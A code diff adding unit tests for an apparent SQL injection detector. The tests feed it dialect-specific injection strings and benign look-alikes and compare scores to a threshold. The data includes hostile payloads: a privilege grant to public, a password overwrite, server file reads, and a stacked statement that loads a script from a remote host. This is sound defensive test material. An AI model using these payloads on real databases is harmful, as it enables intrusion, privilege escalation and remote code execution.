@@ -280,5 +280,40 @@ TEST(Sql, GroupsAndStatementsThatAreCutOff) {
     EXPECT_LT(points(text), kThreshold) << text;
 }
 
+TEST(Sql, ConditionsThatEndInWordsOfADialect) {
+  for (const char* text :
+       {"1' or 1=1 with ur--", "' or 1=1 option(maxdop 1)-- -", "' or token(id)>0 allow filtering--", "' or 'a'~'a'--",
+        "' or 'a' ~* 'A'#", "1 or rownum=1", "hi or a=a", "1 and get_lock('a',5)",
+        "1' and 9=(select count(*) from sysmaster:syspaghdr)--", "') on duplicate key update password='x'-- -"}) {
+    EXPECT_GE(points(text), kThreshold) << text;
+  }
+  for (const char* text :
+       {"it's 5 or more with a--dash", "7 or size = 4", "hi or a=b", "an ~approximate~ 'value' or so"})
+    EXPECT_LT(points(text), kThreshold) << text;
+}
+
+TEST(Sql, WholeDefinitionsAndOtherStackedStatements) {
+  for (const char* text :
+       {"';use master;grant control server to [public]--", "';bulk insert x from 'c:\\x'--",
+        "';runscript from 'http://192.0.2.9/x'--", "1;desc users;", "load data infile '/srv/x' into table y",
+        "create table x (y text)", "insert into a.b (c,d) values (1,2)", "create user x identified by 'y'"}) {
+    EXPECT_GE(points(text), kThreshold) << text;
+  }
+  for (const char* text :
+       {"create table settings for two", "create user stories by hand", "use it; desc it", "load data in file x"})
+    EXPECT_LT(points(text), kThreshold) << text;
+}
+
+TEST(Sql, WordsOfSqlThatPeopleAndProgramsUse) {
+  for (const char* text :
+       {"Is there a \"select all\" option? I'd like to delete from March to June", "SQL (select, insert & update)",
+        "sleep(8) hours or 7", "516=4-k4M5oqdV-_2CTT", "Is 5 > 3 and 2 < 4? Yes, it's true & obvious!"})
+    EXPECT_LT(points(text), kThreshold) << text;
+  for (const char* text : {"sleep(8)", "(select 1)", "x or 2<4-- ", "5=5"}) {
+    if (std::string_view(text) == "5=5") continue;
+    EXPECT_GE(points(text), kThreshold) << text;
+  }
+}
+
 }  // namespace
 }  // namespace onesec::inspect
